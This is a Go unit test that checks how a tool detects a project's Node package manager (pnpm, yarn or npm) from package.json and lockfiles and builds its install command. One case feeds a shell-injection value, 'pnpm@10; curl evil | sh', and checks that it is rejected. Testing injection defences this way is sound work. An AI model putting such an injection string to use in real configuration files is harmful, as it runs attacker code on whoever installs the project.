package languages

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestNodeToolsAreThePackageManagerTheProjectNames(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  []string // Name, For, the package npm installs
	}{
		{"packageManager, its corepack hash dropped",
			map[string]string{"package.json": `{"packageManager":"pnpm@10.12.1+sha512.abc"}`, "pnpm-lock.yaml": "lockfileVersion: '9.0'\n"},
			[]string{"pnpm@10.12.1", "package.json (packageManager)", " pnpm@10.12.1 "}},
		{"pnpm-lock.yaml alone: the major of its format",
			map[string]string{"package.json": `{}`, "pnpm-lock.yaml": "lockfileVersion: '6.0'\n"},
			[]string{"pnpm@8", "pnpm-lock.yaml", " pnpm@8 "}},
		{"yarn 1's lockfile",
			map[string]string{"package.json": `{}`, "yarn.lock": "# yarn lockfile v1\n\n\"a@^1\":\n  version \"1.0.0\"\n"},
			[]string{"yarn@1", "yarn.lock", " yarn@1 "}},
		{"yarn 4's lockfile: yarn 2 and later come as @yarnpkg/cli-dist",
			map[string]string{"yarn.lock": "# This file is generated\n\n__metadata:\n  version: 8\n  cacheKey: 10c0\n"},
			[]string{"yarn@4", "yarn.lock", " @yarnpkg/cli-dist@4 "}},
		{"packageManager yarn@3.6.4",
			map[string]string{"package.json": `{"packageManager":"yarn@3.6.4"}`},
			[]string{"yarn@3.6.4", "package.json (packageManager)", " @yarnpkg/cli-dist@3.6.4 "}},
		{"npm comes with node", map[string]string{"package.json": `{"packageManager":"npm@10.0.0"}`, "package-lock.json": "{}"}, nil},
		{"a version that is not one goes nowhere near a shell",
			map[string]string{"package.json": `{"packageManager":"pnpm@10; curl evil | sh"}`}, nil},
		{"nothing named", map[string]string{"package.json": `{"packageManager":42}`}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, content := range tc.files {
				require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644))
			}
			tools := nodeTools(dir)
			if tc.want == nil {
				assert.Empty(t, tools)
				return
			}
			require.Len(t, tools, 1, "the lockfile's manager is the one named: installed once")
			assert.Equal(t, tc.want[0], tools[0].Name)
			assert.Equal(t, tc.want[1], tools[0].For)
			assert.Contains(t, tools[0].Install, tc.want[2])
			assert.Contains(t, tools[0].Install, "--ignore-scripts")
		})
	}
}
